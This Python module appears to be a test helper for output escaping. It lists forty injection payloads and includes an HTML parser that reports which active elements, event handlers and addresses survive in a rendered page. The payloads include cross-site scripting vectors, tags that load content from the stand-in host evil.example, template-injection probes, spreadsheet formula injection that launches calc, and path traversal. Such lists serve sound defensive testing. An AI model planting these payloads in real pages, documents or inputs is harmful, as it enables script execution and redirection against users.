"""Texts that attack whoever shows them unescaped, and a parser that finds what became of them."""

from __future__ import annotations

from html.parser import HTMLParser

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.example/x>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=q>",
    "<style>@import '//evil.example/x.css';</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--<script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "` onmouseover=alert(1)",
    '"><b id=owned>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "{{ 7*7 }}{% print 1 %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "<x style=background:url(//evil.example/x)>",
    "url(https://evil.example/x.png)",
    ' id="figure" href="https://evil.example" url(#x)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1\r\n\x00\x1b[31m\u202e$\\frac{a}{b}$",
    "../../../tmp/owned/con.aux " + "w" * 300,
)
"""Forty texts: markup, attributes, templates, addresses, formulas, control characters, paths."""

ACTIVE = {"script", "iframe", "object", "embed", "link", "base", "form", "img", "audio", "video"}
"""Elements that run or load something."""
ADDRESSES = {"src", "srcset", "href", "xlink:href", "action", "formaction", "data", "poster"}
"""Attributes that hold an address."""


class Nodes(HTMLParser):
    """The elements of a page with their attributes, and what stands between them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Remember the element."""
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        """Remember the text."""
        self.text += data

    @property
    def kinds(self) -> set[tuple[str, str]]:
        """Every element with each of its attributes."""
        return {(tag, name) for tag, attributes in self.found for name in ("", *attributes)}

    @property
    def active(self) -> list[str]:
        """The elements that run or load something, and the attributes that do."""
        elements = [tag for tag, _ in self.found if tag in ACTIVE]
        handlers = [name for _, held in self.found for name in held if name.startswith("on")]
        return sorted(elements + handlers)

    @property
    def addresses(self) -> list[str]:
        """Every address."""
        return [
            value for _, held in self.found for name, value in held.items() if name in ADDRESSES
        ]
